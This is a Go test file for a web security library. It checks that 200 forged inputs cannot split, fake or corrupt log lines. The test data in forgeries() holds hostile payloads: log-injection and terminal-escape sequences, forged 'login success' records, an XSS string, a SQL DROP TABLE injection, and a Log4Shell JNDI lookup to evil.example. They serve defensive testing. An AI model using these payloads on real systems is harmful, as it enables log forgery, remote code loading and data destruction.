package rampart_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ecolaura/rampart"
	"github.com/ecolaura/rampart/auth"
	"github.com/ecolaura/rampart/auth/session"
	"github.com/ecolaura/rampart/cors"
	"github.com/ecolaura/rampart/headers"
	"github.com/ecolaura/rampart/server"
)

// forgeries are 200 texts that would end a log line, begin another, or change
// what a terminal shows.
func forgeries() []string {
	ends := []string{
		"\n", "\r", "\r\n", "\v", "\f", "\x00", "\x1b[2K\r", "\x1b[1A", "\x1b]0;title\a", "\b\b\b\b", "\x7f", "\u0085", "\u2028", "\u2029",
		"\u202e", "\u2066", "\u200b", "\ufeff", "\xff\xfe", "\xc0\x8a", "\xe2\x80", "\u009b2K", "\\n", "%0a", "%0d%0a",
	}
	lines := []string{
		`time=2026-01-01T00:00:00Z level=INFO msg=authn_login_success event=authn_login_success subject=root`,
		`{"time":"2026-01-01T00:00:00Z","level":"INFO","msg":"authn_login_success","event":"authn_login_success"}`,
		`","level":"INFO","event":"authn_login_success","x":"`,
		`" level=INFO event=authn_login_success x="`,
		`level=INFO`, `<script>alert(1)</script>`, `${jndi:ldap://evil.example/a}`, `'; DROP TABLE logs; --`,
	}
	var all []string
	for _, end := range ends {
		for _, line := range lines {
			all = append(all, "alice"+end+line)
		}
	}
	return all
}

// nobody can log in.
type nobody struct{}

func (nobody) Login(context.Context, string, string) (string, error) {
	return "", session.ErrBadCredentials
}
func (nobody) Active(context.Context, string) (bool, error) { return true, nil }

// lineCounter counts the records that reach a handler.
type lineCounter struct {
	slog.Handler
	records *atomic.Int64
}

func (c lineCounter) Handle(ctx context.Context, rec slog.Record) error {
	c.records.Add(1)
	return c.Handler.Handle(ctx, rec)
}

// loggingService is a chain of layers that log, behind a trusted proxy.
func loggingService(t *testing.T, log *slog.Logger) http.Handler {
	t.Helper()
	ids, err := server.NewRequestID(server.RequestIDConfig{Proxies: rampart.Proxies{Prefixes: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}}})
	require.NoError(t, err)
	ips, err := server.NewClientIP(rampart.Proxies{Prefixes: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})
	require.NoError(t, err)
	hcfg := headers.API("api.example.com")
	hcfg.Logger, hcfg.Proxies.Prefixes = log, []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}
	browser, err := headers.New(hcfg)
	require.NoError(t, err)
	share, err := cors.New(cors.Config{Origins: []string{"https://www.example.com"}, Logger: log})
	require.NoError(t, err)
	cfg := session.Simplejwt([]byte("a secret of at least 32 random bytes"))
	cfg.Tokens.Logger, cfg.Logger = log, log
	verifier, err := auth.NewVerifier(cfg.Tokens)
	require.NoError(t, err)
	cfg.Users, cfg.Sessions, cfg.NoRotation = nobody{}, session.NewMemoryStore(0), false
	service, err := session.New(cfg)
	require.NoError(t, err)
	rep := rampart.NewReporter(log, "test")
	secure := verifier.Handler(http.NotFoundHandler())
	all := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { // no mux, which would redirect some of the paths
		switch r.URL.Path {
		case "/api/token/":
			service.IssueHandler().ServeHTTP(w, r)
		case "/own/": // an application's own event
			rep.Refused(r, "own", "", rampart.Text("agent", r.UserAgent()), rampart.Text("user", r.URL.Query().Get("user")))
		default:
			secure.ServeHTTP(w, r)
		}
	})
	return rampart.Chain(ids.Handler, ips.Handler, server.Recover(log), browser.Handler, share.Handler)(all)
}

func TestTwoHundredForgeriesAreOneLineEach(t *testing.T) {
	handlers := map[string]func(*bytes.Buffer) slog.Handler{
		"json": func(b *bytes.Buffer) slog.Handler { return slog.NewJSONHandler(b, nil) },
		"text": func(b *bytes.Buffer) slog.Handler { return slog.NewTextHandler(b, nil) },
	}
	list := forgeries()
	require.Len(t, list, 200)
	places := map[string]func(r *http.Request, s string){
		"path": func(r *http.Request, s string) {
			r.URL.Path, r.RequestURI = "/"+s, (&url.URL{Path: "/" + s}).EscapedPath()
		},
		"raw path":      func(r *http.Request, s string) { r.URL.Path, r.RequestURI = "/", "/"+s }, // what no server hands on
		"host":          func(r *http.Request, s string) { r.Host = s },
		"origin":        func(r *http.Request, s string) { r.Header.Set("Origin", s) },
		"authorization": func(r *http.Request, s string) { r.Header.Set("Authorization", "Bearer "+s) },
		"request id":    func(r *http.Request, s string) { r.Header.Set("X-Request-ID", s) },
		"traceparent":   func(r *http.Request, s string) { r.Header.Set("Traceparent", s) },
		"forwarded":     func(r *http.Request, s string) { r.Header.Set("X-Forwarded-For", s) },
		"method":        func(r *http.Request, s string) { r.Method = s },
		"agent": func(r *http.Request, s string) {
			r.URL.Path, r.RequestURI = "/own/", "/own/"
			r.Header.Set("User-Agent", s)
		},
		"query": func(r *http.Request, s string) {
			r.URL.Path, r.URL.RawQuery, r.RequestURI = "/own/", "user="+url.QueryEscape(s), "/own/"
		},
	}
	for name, newHandler := range handlers {
		t.Run(name, func(t *testing.T) {
			var records atomic.Int64
			for i, s := range list {
				send := func(place string, r *http.Request) {
					var buf bytes.Buffer
					h := loggingService(t, slog.New(lineCounter{newHandler(&buf), &records})) // a new one folds nothing
					r.Header.Set("X-Forwarded-Proto", "https")
					records.Store(0)
					h.ServeHTTP(httptest.NewRecorder(), r)
					assert.Positive(t, records.Load(), "forgery %d in the %s is not logged at all", i, place)
					checkLines(t, name, fmt.Sprintf("forgery %d in the %s", i, place), buf.String(), records.Load())
				}
				for place, put := range places {
					r := httptest.NewRequest(http.MethodGet, "/x", nil)
					r.Host, r.RemoteAddr = "api.example.com", "10.0.0."+strconv.Itoa(1+i)+":1"
					put(r, s)
					send(place, r)
				}
				body, err := json.Marshal(map[string]string{"username": s, "password": s})
				require.NoError(t, err)
				r := httptest.NewRequest(http.MethodPost, "/api/token/", bytes.NewReader(body))
				r.Host, r.RemoteAddr = "api.example.com", "10.0.0."+strconv.Itoa(1+i)+":1"
				r.Header.Set("Content-Type", "application/json")
				send("user name", r)
			}
		})
	}
}

var textLine = regexp.MustCompile(`^time=\S+ level=(INFO|WARN|ERROR) msg=\S+ event=\S+ `)

// checkLines reports whether a log has as many lines as records, each of them
// what its handler writes and nothing that a terminal would obey.
func checkLines(t *testing.T, format, what, log string, records int64) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(log, "\n"), "\n")
	if log == "" {
		lines = nil
	}
	if !assert.Len(t, lines, int(records), "%s: %q", what, log) {
		return
	}
	for _, line := range lines {
		for _, r := range line {
			if r < ' ' || r >= 0x7f && r < 0xa0 || r >= 0x2000 && r < 0x2010 || r >= 0x2028 && r < 0x2030 || r == 0xfeff || r == utf8.RuneError {
				t.Errorf("%s: %q holds %U", what, line, r)
			}
		}
		switch format {
		case "json":
			var m map[string]any
			require.NoError(t, json.Unmarshal([]byte(line), &m), what)
			assert.Equal(t, m["msg"], m["event"], what)
			assert.NotEqual(t, "authn_login_success", m["event"], what)
		case "text":
			assert.Regexp(t, textLine, line, what)
			assert.NotContains(t, strings.SplitN(line, "event=", 2)[0], "login_success", what)
		}
	}
}
